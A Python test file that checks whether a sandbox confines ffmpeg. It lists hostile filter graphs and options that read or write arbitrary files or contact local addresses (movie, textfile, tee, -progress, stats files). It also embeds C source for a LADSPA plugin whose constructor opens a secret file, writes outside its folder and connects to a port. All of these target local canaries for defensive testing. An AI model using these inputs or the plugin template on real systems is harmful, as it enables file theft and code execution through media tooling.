"""Hostile filter graphs and options, given to an ffmpeg that nothing but the box holds back (threats A26 to A34)."""

import asyncio
import socket
from contextlib import suppress
from pathlib import Path

import pytest

from cutroom.kit.fence import Fence
from cutroom.kit.process import TimedOut
from cutroom.render.lettering import typefaces
from tests.media.attacks.raw import DEBIAN, FENCED, fence, needed, programs, raw
from tests.media.oracle import Canary

FONT = next(typefaces.FOLDER.glob("Inter-Regular.*"))
PICTURE = ["-v", "error", "-f", "lavfi", "-i", "testsrc2=s=64x64:d=0.2"]
SOUND = ["-v", "error", "-f", "lavfi", "-i", "sine=d=0.2"]
NOWHERE = ["-f", "null", "-"]
EVIL = """
#include <stdio.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>
__attribute__((constructor)) static void run(void) {
  FILE *in = fopen("SECRET", "r"), *out = fopen("OUTSIDE", "w"), *loaded = fopen("LOADED", "w");
  if (out) { fputs("x", out); fclose(out); }
  if (loaded) fclose(loaded);
  if (in) fclose(in);
  struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons(PORT)};
  at.sin_addr.s_addr = inet_addr("127.0.0.1");
  int s = socket(AF_INET, SOCK_STREAM, 0);
  if (s >= 0) connect(s, (void *)&at, sizeof at);
}
const void *ladspa_descriptor(unsigned long n) { return 0; }
"""


def readers(canary: Canary) -> dict[str, list[str]]:
    """Graphs that open a file or an address of their own choice."""
    file, url = str(canary.file), f"http\\\\://127.0.0.1\\\\:{canary.port}/x"
    font = f"fontfile={FONT}"
    return {
        "movie": [*PICTURE, "-vf", f"null[v1];movie={file}[m];[v1][m]overlay", *NOWHERE],
        "movie http": [*PICTURE, "-vf", f"null[v1];movie={url}[m];[v1][m]overlay", *NOWHERE],
        "amovie": [*SOUND, "-af", f"anull[a1];amovie={file}[m];[a1][m]amix", *NOWHERE],
        "drawtext break out": [*PICTURE, "-vf", f"drawtext={font}:text=a[v1];movie={file}[m];[v1][m]overlay", *NOWHERE],
        "textfile": [*PICTURE, "-vf", f"drawtext={font}:textfile={file}", *NOWHERE],
        "font": [*PICTURE, "-vf", f"drawtext=fontfile={file}:text=a", *NOWHERE],
        "subtitles": [*PICTURE, "-vf", f"subtitles={file}", *NOWHERE],
        "ass": [*PICTURE, "-vf", f"ass={file}", *NOWHERE],
        "lut3d": [*PICTURE, "-vf", f"lut3d=file={file}", *NOWHERE],
        "curves": [*PICTURE, "-vf", f"curves=psfile={file}", *NOWHERE],
        "sendcmd": [*PICTURE, "-vf", f"sendcmd=f={file}", *NOWHERE],
        "removelogo": [*PICTURE, "-vf", f"removelogo={file}", *NOWHERE],
        "arnndn": [*SOUND, "-af", f"arnndn=m={file}", *NOWHERE],
        "attach": [*PICTURE, "-attach", file, "-metadata:s:t", "mimetype=text/plain", "x.mkv"],
        "option from a file": [*PICTURE, "-/vf", file, *NOWHERE],
        "progress": ["-progress", f"http://127.0.0.1:{canary.port}", *PICTURE, *NOWHERE],
        "output": [*PICTURE, "-f", "mpegts", f"tcp://127.0.0.1:{canary.port}"],
        "tee": [*PICTURE, "-map", "0:v", "-f", "tee", f"[f=mpegts]tcp://127.0.0.1:{canary.port}|x.ts"],
    }


def writers(outside: Path) -> dict[str, list[str]]:
    """Words that write a file of their own choice."""
    place = str(outside / "made")
    return {
        "metadata": [*PICTURE, "-vf", f"metadata=print:file={place}", *NOWHERE],
        "psnr": [*PICTURE, "-filter_complex", f"[0:v]split[a][b];[a][b]psnr=stats_file={place}", *NOWHERE],
        "ssim": [*PICTURE, "-filter_complex", f"[0:v]split[a][b];[a][b]ssim=stats_file={place}", *NOWHERE],
        "vstats": [*PICTURE, "-vstats_file", place, *NOWHERE],
        "pass log": [*PICTURE, "-c:v", "libx264", "-pass", "1", "-passlogfile", place, *NOWHERE],
        "x264 stats": [*PICTURE, "-c:v", "libx264", "-x264-params", f"pass=1:stats={place}", *NOWHERE],
        "report": [*PICTURE, "-f", "image2", f"{place}-%d.png"],
        "segments": [*PICTURE, "-f", "hls", f"{place}.m3u8"],
    }


@pytest.mark.timeout(300)
@pytest.mark.threat("A26", "A27", "A29", "A30", "A34")
@pytest.mark.parametrize("level", [1, *FENCED])
async def test_graphs_that_read_reach_nothing(level: int, tmp_path: Path) -> None:
    held = Fence() if level == 1 else fence(level)
    out = tmp_path / "out"
    out.mkdir()
    with Canary(tmp_path) as canary:
        for program in programs():
            reached: set[str] = set()
            for name, words in readers(canary).items():
                with suppress(TimedOut):  # an address that was reached does not answer
                    done = await raw(held, program, words, out, reads=[FONT], timeout_s=3)
                    assert b"bwrap" not in done.stderr
                if canary.touched():
                    reached.add(name)
            # The door alone is what stops them at the first level: there they reach what they want.
            sure = {"movie", "movie http", "attach", "output"}
            assert reached >= sure if level == 1 else not reached, (program, reached)


@pytest.mark.timeout(300)
@pytest.mark.threat("A31")
@pytest.mark.parametrize("level", [1, *FENCED])
async def test_words_that_write_leave_nothing_outside(level: int, tmp_path: Path) -> None:
    held = Fence() if level == 1 else fence(level)
    out, outside = tmp_path / "out", tmp_path / "outside"
    out.mkdir()
    outside.mkdir()
    for program in programs():
        written: set[str] = set()
        for name, words in writers(outside).items():
            await raw(held, program, words, out)
            if any(outside.iterdir()):
                written.add(name)
            for made in outside.iterdir():
                made.unlink()
        assert written >= {"metadata", "psnr", "vstats", "report"} if level == 1 else not written


@pytest.mark.threat("A32")
@pytest.mark.parametrize("level", [1, *FENCED])
async def test_code_that_is_loaded_reaches_nothing(level: int, tmp_path: Path) -> None:
    compiler = needed("cc")
    if not DEBIAN.exists():
        pytest.skip("only the distribution's ffmpeg loads LADSPA plugins")
    held = Fence() if level == 1 else fence(level)
    out, outside = tmp_path / "out", tmp_path / "made-outside"
    out.mkdir()
    with Canary(tmp_path) as canary:
        text = EVIL.replace("SECRET", str(canary.file)).replace("OUTSIDE", str(outside))
        source, plugin = tmp_path / "evil.c", tmp_path / "evil.so"
        source.write_text(text.replace("PORT", str(canary.port)).replace("LOADED", str(out / "loaded")))
        made = await asyncio.create_subprocess_exec(compiler, "-shared", "-fPIC", "-o", str(plugin), str(source))
        assert await made.wait() == 0
        assert not canary.touched()
        words = [*SOUND, "-af", f"ladspa=file={plugin}:plugin=x", *NOWHERE]
        await raw(held, DEBIAN, words, out, reads=[plugin])
        assert (out / "loaded").exists()  # it ran: what follows is what a broken parser could do
        assert (canary.touched(), outside.exists()) == ((True, True) if level == 1 else (False, False))


@pytest.mark.threat("A33")
@pytest.mark.parametrize("level", FENCED)
async def test_no_port_is_opened(level: int, tmp_path: Path) -> None:
    held = fence(level)
    out = tmp_path / "out"
    out.mkdir()
    with socket.create_server(("127.0.0.1", 0)) as free:
        port = free.getsockname()[1]
    graph = f"zmq=bind_address=tcp\\\\://127.0.0.1\\\\:{port}"
    for program in programs():
        words = ["-v", "error", "-re", "-f", "lavfi", "-i", "testsrc2=s=64x64", "-vf", graph, *NOWHERE]
        run = asyncio.create_task(raw(held, program, words, out, timeout_s=1.5))
        await asyncio.sleep(1)
        with pytest.raises(OSError, match="refused"):
            socket.create_connection(("127.0.0.1", port), timeout=1).close()
        with suppress(TimedOut):
            await run
